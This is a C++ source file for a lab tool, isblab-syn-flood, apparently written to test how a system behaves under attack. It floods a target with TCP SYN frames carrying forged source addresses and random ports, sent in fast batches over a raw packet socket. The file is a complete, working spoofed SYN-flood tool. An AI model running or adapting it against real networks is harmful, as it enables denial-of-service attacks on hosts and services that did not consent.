// SPDX-License-Identifier: GPL-2.0-or-later
// Sends TCP SYNs from forged sources out of one device, as fast as it can, until standard input
// ends. For the tests of what an IST does under attack; whole frames through AF_PACKET, so it can
// only reach what is at the other end of the device.
//
//     isblab-syn-flood DEVICE MAC TARGET FIRST-PORT LAST-PORT SOURCE-NETWORK/16
//
// Prints "flooding", and at the end {"sent": N, "seconds": S, "cpu": C}; C: processor seconds,
// which are fewer where others compute too.
#include "emulation/sys/descriptor.h"
#include "emulation/sys/system-error.h"
#include "model/core/random/rng.h"
#include "model/wire/packet-builder.h"

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <exception>
#include <iostream>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <stdexcept>
#include <string>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

namespace
{

constexpr size_t BATCH = 64;
/// Frames that are made once; every batch is another part of them.
constexpr size_t FRAMES = 8192;

using Clock = std::chrono::steady_clock;

/// What the command line says.
struct Target
{
    std::string device;
    std::array<uint8_t, ETH_ALEN> mac{};
    isb::Ipv4 address;
    uint16_t firstPort = 0;
    uint16_t lastPort = 0;
    isb::Ipv4 network;
};

Target
ReadTarget(const std::vector<std::string>& words)
{
    Target target;
    if (words.size() != 6)
    {
        throw std::invalid_argument("DEVICE MAC TARGET FIRST-PORT LAST-PORT NETWORK are needed");
    }
    target.device = words[0];
    const auto address = isb::Ipv4::Parse(words[2]);
    const auto network = isb::Ipv4::Parse(words[5]);
    auto& mac = target.mac;
    // NOLINTNEXTLINE(cert-err34-c): six bytes or none
    if (std::sscanf(words[1].c_str(),
                    "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx",
                    &mac[0],
                    &mac[1],
                    &mac[2],
                    &mac[3],
                    &mac[4],
                    &mac[5]) != ETH_ALEN ||
        !address || !network)
    {
        throw std::invalid_argument("a MAC or an IPv4 address is none");
    }
    target.address = *address;
    target.network = *network;
    target.firstPort = static_cast<uint16_t>(std::stoul(words[3]));
    target.lastPort = static_cast<uint16_t>(std::stoul(words[4]));
    return target;
}

/// SYNs of sources and ports by chance, the same ones in every run.
std::vector<std::vector<uint8_t>>
MakeFrames(const Target& target)
{
    isb::SeededRng random(1);
    std::vector<std::vector<uint8_t>> frames(FRAMES);
    for (auto& frame : frames)
    {
        const isb::Endpoint source{
            {target.network.value | static_cast<uint32_t>(1 + random.Below(65534))},
            static_cast<uint16_t>(1024 + random.Below(64512))};
        const uint64_t ports = target.lastPort - target.firstPort + 1U;
        isb::TcpFields tcp;
        tcp.sequence = static_cast<uint32_t>(random.Next());
        tcp.flags = isb::TCP_SYN;
        tcp.options = {2, 4, 5, 180}; // MSS 1460
        const auto port = static_cast<uint16_t>(target.firstPort + random.Below(ports));
        const auto packet = isb::BuildTcp(source, {target.address, port}, tcp, {});
        frame.assign(target.mac.begin(), target.mac.end());
        frame.insert(frame.end(), {2, 0, 0, 0, 0, 1, ETH_P_IP >> 8, ETH_P_IP & 0xff});
        frame.insert(frame.end(), packet.begin(), packet.end());
    }
    return frames;
}

isb::Descriptor
OpenDevice(const std::string& device)
{
    isb::Descriptor packets(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));
    sockaddr_ll place{};
    place.sll_family = AF_PACKET;
    place.sll_ifindex = static_cast<int>(if_nametoindex(device.c_str()));
    const void* raw = &place;
    const int direct = 1;
    if (!packets || place.sll_ifindex == 0 ||
        bind(packets.Get(), static_cast<const sockaddr*>(raw), sizeof(place)) != 0 ||
        setsockopt(packets.Get(), SOL_PACKET, PACKET_QDISC_BYPASS, &direct, sizeof(direct)) != 0)
    {
        throw isb::SystemError("send frames by " + device);
    }
    return packets;
}

bool
IsOver()
{
    pollfd input{STDIN_FILENO, POLLIN, 0};
    return poll(&input, 1, 0) > 0;
}

int
Flood(const Target& target)
{
    const isb::Descriptor packets = OpenDevice(target.device);
    auto frames = MakeFrames(target);
    std::vector<iovec> parts;
    std::vector<mmsghdr> messages(FRAMES);
    for (auto& frame : frames)
    {
        parts.push_back({frame.data(), frame.size()});
    }
    for (size_t i = 0; i < FRAMES; ++i)
    {
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    std::cout << "flooding" << std::endl;
    const auto start = Clock::now();
    uint64_t sent = 0;
    for (size_t at = 0; !IsOver(); at = (at + BATCH) % FRAMES)
    {
        const int count = sendmmsg(packets.Get(), &messages[at], BATCH, 0);
        if (count < 0 && errno != ENOBUFS && errno != EINTR)
        {
            throw isb::SystemError("send frames by " + target.device);
        }
        sent += static_cast<uint64_t>(std::max(count, 0));
    }
    const std::chrono::duration<double> took = Clock::now() - start;
    rusage used{};
    getrusage(RUSAGE_SELF, &used);
    const double cpu = static_cast<double>(used.ru_utime.tv_sec + used.ru_stime.tv_sec) +
                       static_cast<double>(used.ru_utime.tv_usec + used.ru_stime.tv_usec) / 1e6;
    std::cout << "{\"sent\": " << sent << ", \"seconds\": " << took.count() << ", \"cpu\": " << cpu
              << "}" << std::endl;
    return 0;
}

} // namespace

int
main(int argc, char** argv)
{
    try
    {
        return Flood(ReadTarget({argv + 1, argv + argc}));
    }
    catch (const std::exception& error)
    {
        std::cerr << "isblab-syn-flood: " << error.what() << "\n";
        return 1;
    }
}
